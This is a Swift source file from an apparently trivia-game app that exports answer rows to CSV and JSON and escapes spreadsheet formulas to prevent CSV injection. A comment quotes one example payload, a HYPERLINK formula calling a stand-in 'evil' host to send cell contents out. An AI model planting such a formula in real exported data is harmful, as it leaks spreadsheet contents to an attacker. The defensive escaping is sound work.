import Foundation
import BuzzerFormats
import BuzzerGame

/// One answer of a game, flattened for spreadsheets and research (`buzzer replay export`).
package struct AnswerRow: Sendable, Equatable {
    /// `CODE@N`.
    package var game: String
    /// 1-based round number in the pack.
    package var round: Int
    /// 1-based position of the question in the game, in the order it was asked.
    package var question: Int
    package var questionText: String
    package var player: String
    package var team: String?
    /// As displayed: option texts, the typed text, the number.
    package var answer: String
    /// nil when the answer was not judged: a poll or practice question, a kicked player, or a
    /// question never revealed.
    package var correct: Bool?
    /// `correct`, `partial`, `wrong` or `counted` (polls); nil when not judged.
    package var outcome: String?
    package var responseMs: Int64
    /// Points this answer earned, streak bonus and wager stake included, after any rescoring.
    package var points: Int
    /// The player's points from answers so far in this game (host adjustments are not answers
    /// and are not included).
    package var runningTotal: Int
    /// False on every row of a game whose log is not whole (`ReplayGame.isComplete`): a
    /// spreadsheet keeps the mark with each row, however it is sorted or filtered.
    package var complete = true
}

/// Rows and their CSV and JSON forms. Rows come out in game order: by question, then by the
/// time each answer arrived.
package enum AnswerExport {
    package static let columns = [
        "game", "round", "question", "question_text", "player", "team", "answer", "correct", "outcome",
        "response_ms", "points", "running_total", "complete",
    ]

    /// Refuses an incomplete game, whose numbers may be wrong, unless `allowIncomplete`: then
    /// its rows go as far as the log does, each marked `complete: false`.
    package static func rows(of game: ReplayGame, allowIncomplete: Bool = false) throws(ReplayError) -> [AnswerRow] {
        if !game.isComplete && !allowIncomplete { throw .incompleteGame(game: game.id, problems: game.errors) }
        guard let room = game.room else {
            throw .damagedGame(game: game.id, issue: game.damage?.description ?? "it has no readable room_created line")
        }
        var totals: [PlayerID: Int] = [:]
        var rows: [AnswerRow] = []
        for entry in room.asked {
            let question = room.question(entry)
            let answers = entry.answers.sorted { a, b in
                a.value.receivedAt != b.value.receivedAt ? a.value.receivedAt < b.value.receivedAt : a.key < b.key
            }
            for (id, recorded) in answers {
                let player = room.players[id]
                let award = entry.awards[id]
                totals[id, default: 0] += award?.points ?? 0
                rows.append(AnswerRow(
                    game: game.id, round: entry.round + 1, question: entry.sequence + 1, questionText: question.text,
                    player: player?.nickname ?? "player \(id.rawValue)", team: player?.team.flatMap { room.teams[$0]?.name },
                    answer: ReplayFormat.answer(recorded.value, question: question),
                    correct: award?.outcome.flatMap { $0 == .counted ? nil : $0 == .correct },
                    outcome: award?.outcome?.rawValue, responseMs: recorded.responseMs, points: award?.points ?? 0,
                    runningTotal: totals[id] ?? 0, complete: game.isComplete))
            }
        }
        return rows
    }

    /// RFC 4180: CRLF line ends, a header line, and fields quoted when they hold a comma, a
    /// quote, CR or LF (quotes doubled). Empty fields for absent values. Text a player or a pack
    /// wrote is defused first (`csvText`), so a spreadsheet never runs it as a formula.
    package static func csv(_ rows: [AnswerRow]) -> String {
        var out = columns.joined(separator: ",") + "\r\n"
        for row in rows {
            out += cells(row).map { cell in
                switch cell {
                case .text(let text?): csvField(csvText(text))
                case .text(nil): ""
                case .value(let value): value
                }
            }.joined(separator: ",") + "\r\n"
        }
        return out
    }

    /// A JSON array with one object per row on its own line, keys in column order, absent
    /// values as null, so files diff well and load with any JSON reader.
    package static func json(_ rows: [AnswerRow]) -> String {
        if rows.isEmpty { return "[]\n" }
        var out = "[\n"
        for (position, row) in rows.enumerated() {
            out += "{"
            out += [
                member("game", string(row.game)), member("round", String(row.round)), member("question", String(row.question)),
                member("question_text", string(row.questionText)), member("player", string(row.player)),
                member("team", row.team.map(string) ?? "null"), member("answer", string(row.answer)),
                member("correct", row.correct.map { $0 ? "true" : "false" } ?? "null"),
                member("outcome", row.outcome.map(string) ?? "null"), member("response_ms", String(row.responseMs)),
                member("points", String(row.points)), member("running_total", String(row.runningTotal)),
                member("complete", row.complete ? "true" : "false"),
            ].joined(separator: ",")
            out += position == rows.count - 1 ? "}\n" : "},\n"
        }
        return out + "]\n"
    }

    /// A CSV cell: text from the game (names, answers, questions), or a number or flag the export made.
    enum Cell: Equatable {
        case text(String?)
        case value(String)
    }

    static func cells(_ row: AnswerRow) -> [Cell] {
        [.text(row.game), .value(String(row.round)), .value(String(row.question)), .text(row.questionText), .text(row.player),
         .text(row.team), .text(row.answer), .value(row.correct.map { $0 ? "true" : "false" } ?? ""), .text(row.outcome),
         .value(String(row.responseMs)), .value(String(row.points)), .value(String(row.runningTotal)),
         .value(row.complete ? "true" : "false")]
    }

    /// Text that starts with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, which spreadsheets
    /// show as text instead of running it as a formula (OWASP "CSV Injection"): a nickname such as
    /// `=HYPERLINK("http://evil/?"&A1,"win")` reaches the host's spreadsheet. A plain number (a
    /// typed answer of -40) is left as it is: it cannot be a formula.
    static func csvText(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), !isPlainNumber(text) else { return text }
        return "'" + text
    }

    /// Digits with an optional sign and decimal point, as a number answer is written: nothing a
    /// spreadsheet evaluates.
    private static func isPlainNumber(_ text: String) -> Bool {
        text.utf8.allSatisfy { ($0 >= 0x30 && $0 <= 0x39) || $0 == UInt8(ascii: ".") || $0 == UInt8(ascii: "-") || $0 == UInt8(ascii: "+") }
            && Double(text) != nil
    }

    static func csvField(_ text: String) -> String {
        guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\r" || $0 == "\n" || $0 == "\r\n" }) else { return text }
        return "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    private static func member(_ key: String, _ value: String) -> String { "\"\(key)\":\(value)" }

    /// A JSON string literal (RFC 8259 §7).
    package static func string(_ text: String) -> String { JSONStringLiteral.make(text) }
}
